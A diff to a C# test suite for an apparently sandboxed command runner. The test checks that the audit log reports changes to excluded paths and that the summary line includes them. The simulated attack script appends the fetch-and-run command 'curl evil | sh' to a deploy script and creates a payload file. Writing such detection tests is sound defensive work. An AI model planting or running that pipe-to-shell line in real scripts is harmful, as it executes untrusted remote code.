@@ -36,10 +36,12 @@ public sealed partial class ExcludedPathRecordTests
             Assert.Equal(0, (await ProcessRunner.RunAsync("chown", ["-R", "65534:65534", work.Path], cancellationToken: ct)).ExitCode);
         }
 
-        List<(string Rule, string Subject, string Evidence)> clean = await RunAsync(sb, work.Path, "cat bin/deploy node_modules/pkg/index.js >/dev/null && echo b >> src/a.txt");
-        List<(string Rule, string Subject, string Evidence)> attacked = await RunAsync(sb, work.Path, "echo 'curl evil | sh' >> bin/deploy && mkdir -p lib/target && echo x > lib/target/payload.sh");
+        (List<(string Rule, string Subject, string Evidence)> clean, string cleanLine) = await RunAsync(sb, work.Path, "cat bin/deploy node_modules/pkg/index.js >/dev/null && echo b >> src/a.txt");
+        (List<(string Rule, string Subject, string Evidence)> attacked, string attackedLine) = await RunAsync(sb, work.Path, "echo 'curl evil | sh' >> bin/deploy && mkdir -p lib/target && echo x > lib/target/payload.sh");
 
         Assert.DoesNotContain(clean, v => v.Rule == "excluded-path-changed");
+        Assert.DoesNotContain("excluded path", cleanLine, StringComparison.Ordinal);
+        Assert.Contains("; 2 excluded path(s) changed, seen by metadata only: bin, lib/target", attackedLine, StringComparison.Ordinal);
         Assert.Contains("curl evil | sh", File.ReadAllText(Path.Combine(work.Path, "bin", "deploy")), StringComparison.Ordinal);
         Assert.Equal(
             [("bin", "excluded path bin modified (2 -> 2 entries): covered by metadata only, its contents and files are not in the record"),
@@ -47,7 +49,7 @@ public sealed partial class ExcludedPathRecordTests
             attacked.Where(v => v.Rule == "excluded-path-changed").Select(v => (v.Subject, v.Evidence)));
     }
 
-    private static async Task<List<(string Rule, string Subject, string Evidence)>> RunAsync(NonoSandbox sb, string work, string script)
+    private static async Task<(List<(string Rule, string Subject, string Evidence)> Violations, string SummaryLine)> RunAsync(NonoSandbox sb, string work, string script)
     {
         ProcessResult run = await sb.RunAsync("run", "--rollback", "--workdir", work, "--allow-cwd", "--", "/bin/sh", "-c", script);
         Assert.True(run.ExitCode == 0, run.ToString());
@@ -55,8 +57,8 @@ public sealed partial class ExcludedPathRecordTests
         ProcessResult show = await sb.RunAsync("audit", "show", session, "--json");
         Assert.True(show.ExitCode == 0, show.ToString());
         using JsonDocument json = JsonDocument.Parse(show.StandardOutput);
-        return [.. json.RootElement.GetProperty("violations").EnumerateArray().Select(v =>
-            (v.GetProperty("rule_id").GetString() ?? "", v.GetProperty("subject").GetString() ?? "", v.GetProperty("evidence").GetString() ?? ""))];
+        return ([.. json.RootElement.GetProperty("violations").EnumerateArray().Select(v =>
+            (v.GetProperty("rule_id").GetString() ?? "", v.GetProperty("subject").GetString() ?? "", v.GetProperty("evidence").GetString() ?? ""))], run.StandardError);
     }
 
     private static async Task Git(string directory, params string[] args)
